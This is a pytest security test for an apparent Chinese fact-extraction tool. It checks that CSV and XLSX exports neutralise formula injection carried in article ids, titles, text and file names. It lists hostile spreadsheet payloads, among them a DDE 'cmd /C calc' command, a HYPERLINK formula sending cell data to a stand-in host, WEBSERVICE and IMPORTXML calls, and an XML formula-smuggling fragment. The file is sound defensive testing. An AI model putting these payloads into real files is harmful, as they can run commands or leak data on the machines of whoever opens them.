"""What an article, its title, its id or its file's name says never runs in a spreadsheet program."""

import csv
import json
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
from zhfacts.batch import extract
from zhfacts.tables import TABLES

BEGINS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n@", "'=", "''=", ' ="', '"=', ";=", "\x00=")
RUNS = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"x")',
    'WEBSERVICE("http://x.example/")',
    "IMPORTXML(A1,B1)",
    '1","=1+1',
    "1</t></is></c><c><f>1+1</f></c>",
)
HOSTILE = [begin + run for begin in BEGINS for run in RUNS]
FORMULA = ("=", "+", "-", "@", "＝", "＋", "－", "＠", *map(chr, range(32)))


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("in")
    texts = [f"{text}公司发布国内首款{text}芯片，{text}研究院投资{text}3亿元。" for text in HOSTILE]
    rows = [{"id": text, "title": text, "text": whole} for text, whole in zip(HOSTILE, texts, strict=True)]
    (folder / "articles.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    for number, text in enumerate(HOSTILE):
        name = text.replace("/", "∕").replace("\0", "\x01")[:60]
        (folder / f"{name}{number}.txt").write_text(texts[number], encoding="utf-8")
    out = tmp_path_factory.mktemp("out")
    extract([folder], out, formats=["csv", "xlsx"])
    return out


def test_no_cell_of_csv_runs(results: Path) -> None:
    cells = []
    for table in TABLES:
        with (results / f"{table}.csv").open(encoding="utf-8-sig", newline="") as file:
            cells += [cell for row in csv.reader(file) for cell in row]
    assert sum(cell.startswith("'") for cell in cells) > len(HOSTILE)
    assert [cell for cell in cells if cell.startswith(FORMULA) and not number(cell)] == []


def test_no_cell_of_xlsx_runs(results: Path) -> None:
    with ZipFile(results / "zhfacts.xlsx") as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert len(sheets) == len(TABLES)
    assert not any(b"<f" in sheet for sheet in sheets)
    workbook = openpyxl.load_workbook(results / "zhfacts.xlsx")
    kinds = {cell.data_type for sheet in workbook for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "n", "b", "d"}
    ids = {row[0] for row in workbook["documents"].iter_rows(min_row=2, values_only=True)}
    assert {text for text in HOSTILE if not set(text) & set("\0\r")} <= ids


def number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
